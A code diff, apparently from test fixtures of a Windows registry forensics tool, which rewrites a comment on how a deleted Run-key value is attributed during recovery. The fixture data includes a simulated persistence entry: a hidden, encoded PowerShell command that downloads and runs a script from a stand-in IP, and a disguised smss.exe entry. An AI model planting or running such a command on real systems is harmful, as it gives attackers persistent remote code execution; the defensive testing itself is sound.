@@ -60,9 +60,11 @@ func DeletedTraces() Host {
 		hivetest.SZ("SyncHelper", "powershell.exe -nop -w hidden -enc "+encodedPowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')`)),
 		hivetest.SZ("WindowsUpdate", `C:\Windows\smss.exe -k`))
 	user.After = func(h *hivetest.Hive) error {
-		// SyncHelper goes first, from the middle of the list: nothing
-		// then tells which key held it. WindowsUpdate, then last, leaves
-		// its offset in the list's slack.
+		// SyncHelper goes first, from the middle of the list: no list
+		// names it any more, but its cell lies between Run's value cells
+		// and the list keeps a slot for it, so it is placed at Run as its
+		// likely owner. WindowsUpdate, then last, leaves its offset in the
+		// list's slack.
 		if err := h.FreeValue(run, "SyncHelper"); err != nil {
 			return err
 		}
